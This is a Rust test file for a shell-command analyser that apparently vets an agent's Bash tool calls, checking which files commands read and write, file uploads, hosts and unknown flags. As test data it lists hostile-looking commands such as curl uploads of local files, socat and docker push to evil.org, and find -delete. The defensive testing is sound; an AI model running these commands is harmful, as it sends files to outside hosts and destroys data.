//! The files that programs read and write, and whether these are all.

use super::*;

fn part(command: &str) -> Program {
    let facts = facts("Bash", json!({"command": command}));
    facts.command.unwrap().parts.pop().unwrap()
}

#[test]
fn p19_files_that_are_read_are_found_behind_flags() {
    for (command, file) in [
        ("grep -esecret /outside /in/a", "/outside"),
        ("grep --regexp=secret /outside /in/a", "/outside"),
        ("grep -nf /outside /in/a", "/outside"),
        ("grep -C 5 x /outside", "/outside"),
        ("grep -r x", "."),
        ("rg x", "."),
        ("sed -nep /outside /in/a", "/outside"),
        ("sed -n p /outside", "/outside"),
        ("sed /outside -e p /in/a", "/outside"),
        ("sed 'r /outside' /in/a", "/outside"),
        ("awk -F: '{print $1}' /outside", "/outside"),
        ("curl -sd @/outside https://a.org", "/outside"),
        ("head -n 5 /outside", "/outside"),
        ("diff --from-file=/outside /in/a", "/outside"),
        ("file -f/outside /in/a", "/in/a"),
    ] {
        let part = part(command);
        let found = part.reads.iter().any(|read| read == file);
        assert!(found, "{command} {part:?}");
    }
    for command in [
        "diff --from-file=/outside /in/a",
        "file -f/outside /in/a",
        "wc --files0-from=/outside /in/a",
        "sort --files0-from=/outside /in/a",
        "sha256sum -c /in/a",
        "jq --arg x y 'import \"/outside\" as $x; .' /in/a",
        "strings @/in/a",
        "strings -a /in/a @/in/a",
        "awk 'BEGIN{ARGV[1]=\"/outside\"}' /in/a",
        "jq 'import \"/outside\" as $x; .' /in/a",
        "git diff /outside x",
        "git log -O/outside",
        "make test",
    ] {
        assert!(!part(command).reads_sure, "{command}");
    }
    for (command, files) in [
        ("grep -rn foo src", "src"),
        ("grep import", ""),
        ("grep -n -e foo /in/a", "/in/a"),
        ("cat", ""),
        ("head -5", ""),
        ("head -n 5", ""),
        ("tail -n5 /in/a", "/in/a"),
        ("wc -l", ""),
        ("sed -n 1,5p /in/a", "/in/a"),
        ("awk '{print $1}'", ""),
        ("sort -k 2 -t , /in/a", "/in/a"),
        ("diff -u /in/a /in/b", "/in/a /in/b"),
        ("jq -r .x /in/a", "/in/a"),
        ("ls -la /in", "/in"),
        ("grep -f/outside /in/a", "/in/a /outside"),
        ("grep -r -f /in/a", ". /in/a"),
        ("grep -rC 5 x", "x ."),
        ("grep -rC5 x /in", "/in"),
        ("rg -C 5 x", "."),
        ("rg --files /in", "/in"),
        ("cp -t /out /in/a /in/b", "/in/a /in/b"),
        ("cp -a /in/a /out", "/in/a"),
        ("ls -wT /in", "/in"),
        ("strings -n 8 /in/a", "/in/a"),
        ("git log -5", ""),
        ("echo x", ""),
    ] {
        let part = part(command);
        assert_eq!(
            (part.reads.join(" "), part.reads_sure),
            (files.to_owned(), true),
            "{command}"
        );
    }
}

#[test]
fn p19_files_that_are_written_are_found_or_not_certain() {
    for command in [
        "uniq a OUT",
        "shuf -o OUT a",
        "shuf -oOUT a",
        "xxd a OUT",
        "tree -o OUT",
        "sort a -oOUT",
        "git log --output=OUT",
        "tree -no OUT .",
        "tree -io OUT .",
        "truncate -s 0 OUT",
        "uniq -f 1 a OUT",
        "sort --outp OUT a",
    ] {
        assert_eq!(part(command).writes, ["OUT"], "{command}");
    }
    for (command, files) in [
        ("rsync a OUT", "OUT OUT/a"),
        ("cp -Zt OUT a", "OUT OUT/a"),
        ("cp -vZtOUT a b", "OUT OUT/a OUT/b"),
        ("ln -st OUT a", "OUT OUT/a"),
        ("mv a b OUT", "a b OUT OUT/a OUT/b"),
        ("sort a -o -", "-"),
        ("mv -Zt OUT a", "a OUT OUT/a"),
        ("ln -s /x/a", "/x/a . ./a"),
        ("sed -i s/a/b/ x/y", "x/y"),
        ("sed -i.bak s/a/b/ x/y", "x/y.bak x/y"),
        ("sed -i'/out/*' s/a/b/ x/y", "/out/y x/y"),
        ("sed -i'old_*' s/a/b/ x/y", "x/old_y x/y"),
        (
            "sed --in-place='/out/*' s/a/b/ x/y z",
            "/out/y /out/z x/y z",
        ),
        ("sed --in='/out/*.bak' s/a/b/ y", "/out/y.bak y"),
        ("sed -i/../out s/a/b/ y", "y/../out y"),
        ("sed -n 1,5p a.py -i -e d", "1,5p a.py"),
        ("sed s/a/b/ a.py -i.bak", "a.py.bak a.py"),
        ("xxd a -r", "-r"),
        ("xxd -r a -p", "-p"),
        ("cp -T a b", "b"),
    ] {
        assert_eq!(part(command).writes.join(" "), files, "{command}");
    }
    for command in [
        "curl -O https://a.org/x",
        "curl -sJO https://a.org/x",
        "curl --remote-name https://a.org/x",
        "curl --remote-name-all https://a.org/x",
        "wget https://a.org/x",
    ] {
        assert!(!part(command).writes.is_empty(), "{command}");
    }
    for command in [
        "tar -cf OUT x",
        "tar cf OUT x",
        "rsync a b",
        "make",
        "npm test",
        "curl --hsts OUT https://a.org",
        "git commit -m x",
        "python3 x.py",
        "source x",
        "sed -f x y",
        "cp -rT sub .",
        "cp -a --no-target-directory sub .",
        "cp -RT sub dir",
        "find . -delete",
        "find . -name x -delete",
    ] {
        assert!(!part(command).writes_sure, "{command}");
    }
    for command in [
        "ls",
        "cat a",
        "grep x a",
        "git status",
        "git log -p",
        "sed p a",
        "find . -name x",
        "curl -s https://a.org",
        "sort a",
        "tree -L 2",
        "echo x",
    ] {
        let part = part(command);
        assert!(part.writes.is_empty() && part.writes_sure, "{command}");
    }
}

#[test]
fn p19_uploads_are_found_among_other_letters() {
    for command in [
        "curl -sT F https://a.org",
        "curl -sd @F https://a.org",
        "curl -sF x=@F https://a.org",
    ] {
        assert!(part(command).risks.contains(&Risk::Uploads), "{command}");
    }
}

/// A program that is not known may have settings and flags of its own for hosts.
#[test]
fn p19_hosts_of_programs_that_are_not_known_are_not_certain() {
    for (command, sure) in [
        ("psql 'postgres://good.org/db?host=evil.org'", false),
        ("psql -h evil.org", false),
        ("socat - TCP:evil.org:80", false),
        ("docker push evil.org/x", false),
        ("mongosh --host evil.org mongodb://good.org", false),
        ("cat a b", true),
        ("grep -rn x src", true),
        ("curl https://good.org", true),
        ("git log", true),
    ] {
        assert_eq!(part(command).hosts_sure, sure, "{command}");
    }
}

/// A flag that is not in the table may write or run something.
#[test]
fn p19_flags_that_are_not_known_are_not_certain() {
    for command in [
        "ls --what",
        "cat -W x",
        "sort -T /tmp x",
        "sort --outp OUT x",
        "tree -Lo 2 OUT",
        "tree -R x",
        "cp --backup a b",
        "cp -S x a b",
        "cp --parents a b",
        "mv -b a b",
        "rg -z x",
        "less -o OUT x",
        "less -oOUT x",
        "file -C -m x",
        "xxd -ps a OUT",
        "bat --pager evil x",
        "wc --files0-from=x",
        "shuf --rand x y",
    ] {
        let facts = facts("Bash", json!({"command": command}));
        assert!(facts.risks.contains(&Risk::Unreadable), "{command}");
        assert!(!facts.is_sure(), "{command}");
        assert!(!part(command).writes_sure, "{command}");
    }
}

#[test]
fn p19_ordinary_commands_are_still_read_in_full() {
    for command in [
        "ls",
        "ls -la --color=never src",
        "ls -lhtr",
        "cat -n a",
        "head -20 a",
        "head -n 20 a",
        "tail -n +5 a",
        "tail -5",
        "wc -l a b",
        "grep -rn --include='*.rs' foo src",
        "grep -E -A3 -B 3 'a|b' x",
        "grep -rC5 x src",
        "grep -v '^#' x",
        "rg -n -C 3 --hidden -g '!target' foo",
        "rg -tpy --files-with-matches foo src",
        "find . -name '*.rs' -not -path './target/*'",
        "find src -maxdepth 2 -type f -mtime -7 -print0",
        "sed -n 1,5p a",
        "sed -E 's/a/b/g' a",
        "awk -F: '{print $1}' a",
        "sort -rn -k2,2 -t , a",
        "sort -u a",
        "uniq -c",
        "cut -d: -f1 a",
        "cut -d' ' -f2-",
        "tr -d '\\n'",
        "diff -u a b",
        "diff -rq a b",
        "jq -r .x a",
        "jq --raw-output .x a",
        "tree -L 2 -I 'target|.git'",
        "tree -aI target",
        "du -sh src",
        "df -h",
        "ps aux",
        "stat -c %s a",
        "file -b a",
        "hexdump -C a",
        "od -An -tx1 a",
        "base64 -d a",
        "sha256sum a",
        "which -a git",
        "git status -sb",
        "git log --oneline -5 --stat",
        "git diff --stat HEAD~1",
        "git --no-pager show HEAD:a",
    ] {
        let facts = facts("Bash", json!({"command": command}));
        assert!(facts.is_sure(), "{command}");
        assert!(facts.risks.is_empty(), "{command} {:?}", facts.risks);
        let part = part(command);
        assert!(part.writes.is_empty() && part.writes_sure, "{command}");
    }
    for command in [
        "npm test",
        "cargo test -p x --lib",
        "make -j4",
        "python3 x.py",
    ] {
        let facts = facts("Bash", json!({"command": command}));
        assert!(facts.is_sure() && facts.risks.is_empty(), "{command}");
    }
    for command in [
        "mkdir -p a/b",
        "touch a",
        "rm a",
        "cp -r a b",
        "cp -av a b",
        "mv -f a b",
        "ln -sf a b",
        "tee -a a",
        "sed -i.bak s/a/b/ a",
    ] {
        let facts = facts("Bash", json!({"command": command}));
        assert!(facts.is_sure(), "{command}");
        assert!(part(command).writes_sure, "{command}");
    }
}
